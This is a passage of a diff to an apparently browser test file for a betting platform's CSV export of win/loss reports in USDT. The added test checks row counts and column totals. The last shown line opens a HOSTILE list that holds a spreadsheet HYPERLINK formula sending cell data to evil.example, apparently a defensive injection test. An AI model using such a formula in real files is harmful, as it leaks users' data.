@@ -10,7 +10,7 @@ import { expectAccessible } from './support/axe.ts';
 import { column, savedCsv } from './support/downloads.ts';
 import { line } from './support/line.ts';
 import { callsFor, demoPlayer } from './support/players.ts';
-import { everyRecord, expectCount, shownRows } from './support/records.ts';
+import { everyRecord, expectCount, expectFigures, shownRows } from './support/records.ts';
 
 const sheet = page.getByRole('dialog', { name: '导出 CSV' });
 const saving = sheet.getByRole('button', { name: '保存到下载' });
@@ -79,6 +79,28 @@ test.for(BOOK_PAGES)(
     expect(sumOf(column(rows, amount))).toBe(totalOf(chosen, 'amount'));
   },
 );
+
+test('the file of the report has every day of the range, and adds up to the platform’s numbers', async () => {
+  const player = await demoPlayer();
+  const said = await callsFor(player)<Record<'stake' | 'win' | 'net', string>>(
+    'winLossReport',
+    lastDays(30),
+  );
+  visit('/accountRecords?range=30', { player });
+  await expectFigures({ 投注额: parseMoney(said.stake) });
+  await openExport();
+  await expect.element(sheet).toHaveTextContent('30 条');
+  await expect.element(sheet).not.toHaveTextContent('导出的只是本机已有的');
+  const { name, rows } = await savedCsv(saving);
+  const { date_from, date_to } = lastDays(30);
+  expect(name).toBe(`盈亏报表_${date_from}_${date_to}.csv`);
+  expect(rows).toHaveLength(31);
+  expect(rows[1]?.[0]).toBe(date_to);
+  expect(rows[30]?.[0]).toBe(date_from);
+  expect(sumOf(column(rows, '投注额(USDT)'))).toBe(parseMoney(said.stake));
+  expect(sumOf(column(rows, '派彩(USDT)'))).toBe(parseMoney(said.win));
+  expect(sumOf(column(rows, '盈亏(USDT)'))).toBe(parseMoney(said.net));
+});
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?"&A1,"领奖")',
